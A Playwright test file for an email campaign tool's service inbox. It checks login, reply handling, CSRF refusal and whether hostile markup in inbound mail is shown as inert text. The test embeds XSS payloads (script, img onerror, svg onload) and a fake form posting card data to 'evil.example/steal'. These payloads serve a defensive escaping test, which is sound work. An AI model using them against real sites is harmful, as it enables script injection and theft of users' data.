import path from 'node:path';
import { expect } from 'chai';
import type { SendMailOptions } from 'nodemailer';
import type { AddressObject } from 'mailparser';
import type { Page } from 'playwright-core';
import { saveUser } from '../../src/access/users.ts';
import { startInboundSmtp, type InboundSmtp } from '../../src/inbound/smtp-listener.ts';
import { submitSignIn, useBrowser } from '../helpers/browser.ts';
import { sendFollowupToAlice } from '../helpers/inbound-app.ts';
import { startWeb, type TestWeb } from '../helpers/web.ts';
import { testEngine, type TestEngine } from '../helpers/engine.ts';
import { deliverMail, startSmtpSink, type SmtpSink } from '../helpers/smtp.ts';

const FIXTURE = path.resolve('test/fixtures/inbound');
const PASSWORD = 'correct horse battery';
const HOSTILE = [
  '<script>alert("script")</script>',
  '<img src=x onerror="alert(\'img\')">',
  '<svg onload="alert(\'svg\')"></svg>',
  '<form action="https://evil.example/steal" method="post"><input name="card"><button>Win</button></form>',
].join('\n');

describe('service inbox in headless Chromium', function () {
  this.timeout(90_000);
  const browser = useBrowser();
  let sink: SmtpSink;
  let t: TestEngine;
  let web: TestWeb;
  let base: string;
  let inbound: InboundSmtp;

  beforeEach(async () => {
    sink = await startSmtpSink();
    web = await startWeb();
    base = web.base;
    t = await testEngine({
      CAMPAIGNS_DIR: path.join(FIXTURE, 'campaigns'),
      TEMPLATES_DIR: path.join(FIXTURE, 'templates'),
      SMTP_URL: sink.url,
      PUBLIC_URL: base,
    });
    web.serve(t.engine);
    inbound = await startInboundSmtp({
      ...t.config.inbound,
      host: '127.0.0.1',
      port: 0,
      domain: '127.0.0.1',
      maxBytes: 1024 * 1024,
      receive: t.engine.receiveReply,
    });
    await saveUser(t.database.pool, { email: 'ann@example.com', name: 'Ann', role: 'service', password: PASSWORD, languages: ['en'] });
    await sendFollowupToAlice(t, sink);
  });
  afterEach(async () => {
    await inbound.close();
    await web.close();
    await t.close();
    await sink.close();
  });

  const deliver = (mail: SendMailOptions) => deliverMail(inbound.port, mail);

  const replyAddress = () => (sink.messages[0]!.replyTo as AddressObject).value[0]!.address!;

  async function logIn(page: Page) {
    await page.goto(`${base}/inbox`);
    expect(new URL(page.url()).pathname).to.equal('/login');
    await submitSignIn(page, 'ann@example.com', PASSWORD, `${base}/inbox`);
  }

  it('logs in, shows the reply beside its campaign message, and sends the answer by email', async () => {
    await deliver({
      from: 'Alice <alice@example.com>',
      to: replyAddress(),
      subject: 'Re: An offer for Alice',
      text: 'Does the 20% apply to shoes?',
    });
    const page = await browser().newPage();
    try {
      await logIn(page);
      const row = page.locator('tr[data-contact]');
      await expect(await row.count()).to.equal(1);
      const rowText = await row.innerText();
      expect(rowText).to.contain('alice');
      expect(rowText).to.contain('followup / offer');
      expect(rowText).to.contain('Does the 20% apply to shoes?');

      await row.locator('a').click();
      await page.waitForURL(/\/inbox\/\d+$/);
      expect(await page.locator('#reply .body').innerText()).to.contain('Does the 20% apply to shoes?');
      expect(await page.locator('#original').innerText()).to.contain('An offer for Alice');
      // The campaign message is shown without its working unsubscribe link.
      expect(await page.locator('#original').innerText()).to.match(/\/unsubscribe\/…/);

      await page.click('text=Accept');
      await page.waitForURL(/done=accepted/);
      expect(await page.locator('[data-status]').innerText()).to.contain('accepted');

      await page.fill('#reply-text', 'Yes, shoes too. Enjoy!');
      await page.click('text=Send reply');
      await page.waitForURL(/done=replied/);
    } finally {
      await page.close();
    }
    await sink.waitFor(2);
    const answer = sink.messages[1]!;
    expect((answer.to as AddressObject).value[0]!.address).to.equal('alice@example.com');
    expect(answer.subject).to.equal('Re: An offer for Alice');
    expect(answer.text?.trim()).to.equal('Yes, shoes too. Enjoy!');
    expect(answer.inReplyTo).to.be.a('string');
    const { rows } = await t.database.pool.query(`SELECT action, actor FROM inbound_contact_events ORDER BY id`);
    expect(rows.map((r) => r.action)).to.deep.equal(['received', 'assigned', 'accepted', 'replied']);
    expect(rows[3].actor).to.equal('user:ann@example.com');
  });

  it('shows hostile markup in a reply as inert text', async () => {
    await deliver({ from: 'alice@example.com', to: replyAddress(), subject: '<img src=x onerror=alert(1)>', text: HOSTILE });
    const page = await browser().newPage();
    const dialogs: string[] = [];
    page.on('dialog', async (d) => {
      dialogs.push(d.message());
      await d.dismiss();
    });
    try {
      await logIn(page);
      await page.locator('tr[data-contact] a').click();
      await page.waitForURL(/\/inbox\/\d+$/);
      await page.waitForTimeout(300);
      const body = page.locator('#reply .body');
      expect(await body.innerText()).to.contain('<script>alert("script")</script>');
      expect(await body.innerText()).to.contain('<form action="https://evil.example/steal"');
      expect(await body.locator('*').count()).to.equal(0);
      expect(await page.locator('script, svg, img').count()).to.equal(0);
      expect(await page.locator('form[action*="evil"]').count()).to.equal(0);
      expect(await page.locator('h1').innerText()).to.equal('<img src=x onerror=alert(1)>');
      expect(dialogs).to.deep.equal([]);
      const response = await page.goto(page.url());
      expect(response!.headers()['content-security-policy']).to.contain("default-src 'none'");
    } finally {
      await page.close();
    }
  });

  it('refuses a form post without the session CSRF token, and a wrong password', async () => {
    const page = await browser().newPage();
    try {
      await page.goto(`${base}/login`);
      await page.fill('#email', 'ann@example.com');
      await page.fill('#password', 'not the password');
      await page.click('button[type=submit]');
      expect(await page.locator('[role=alert]').innerText()).to.contain('Wrong email or password');
      await logIn(page);
      const cookies = await page.context().cookies();
      const session = cookies.find((c) => c.name === 'tp_session')!;
      expect(session.httpOnly).to.equal(true);
      expect(session.sameSite).to.equal('Lax');
      const forged = await fetch(`${base}/me/availability`, {
        method: 'POST',
        headers: { cookie: `tp_session=${session.value}`, 'content-type': 'application/x-www-form-urlencoded' },
        body: 'available=false',
        redirect: 'manual',
      });
      expect(forged.status).to.equal(403);
      const { rows } = await t.database.pool.query(`SELECT available FROM users`);
      expect(rows[0].available).to.equal(true);
    } finally {
      await page.close();
    }
  });
});
